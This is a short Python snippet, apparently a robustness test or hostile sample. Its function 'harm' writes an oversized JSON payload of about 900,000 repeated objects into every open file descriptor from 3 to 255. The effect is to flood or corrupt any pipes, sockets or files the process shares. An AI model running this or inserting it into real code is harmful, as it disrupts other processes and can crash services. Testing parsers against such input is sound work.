import os


def everywhere(data):
    for number in range(3, 256):
        try:
            os.write(number, data)
        except OSError:
            pass


def harm():
    everywhere(b'{"n": [' + b'{"":{}},' * 900_000 + b'0]}\n')
